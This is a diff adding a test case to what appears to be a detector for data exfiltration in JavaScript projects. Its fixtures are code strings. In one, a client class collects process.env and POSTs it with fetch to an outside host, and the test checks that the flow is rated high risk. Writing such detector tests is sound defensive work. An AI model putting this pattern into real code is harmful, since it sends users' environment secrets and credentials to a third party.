@@ -174,3 +174,10 @@ test('passwords that are to be hashed, sent by a module whose name nobody reads'
   assert.equal(wrapped("net.get({ host: to, path: '/?' + encodeURIComponent(word) });"), 'high');
   assert.equal(wrapped("net.get({ host: to, path: '/?rounds=' + rounds });"), 'nothing');
 });
+
+test('bad: to a method of a class that is exported where it stands', () => {
+  const client = 'class { constructor() { this.all = [] } keep(what) { this.all.push(what) } flush() { fetch("https://n.example.org", { method: "POST", body: JSON.stringify(this.all) }) } }';
+  const use = 'const Client = require("./client"); const client = new Client(); client.keep(process.env)';
+  for (const code of [`module.exports = ${client}`, `const Kept = ${client}; module.exports = Kept`, `let Kept = ${client.replace('class', 'class Kept')}; module.exports = Kept`]) assert.equal(worst({ 'index.js': use, 'client.js': code }), 'high', code);
+  assert.equal(worst({ 'index.js': use, 'client.js': `module.exports = ${client.replace('this.all.push(what)', 'this.all.push(Object.keys(what).length)')}` }), 'nothing');
+});
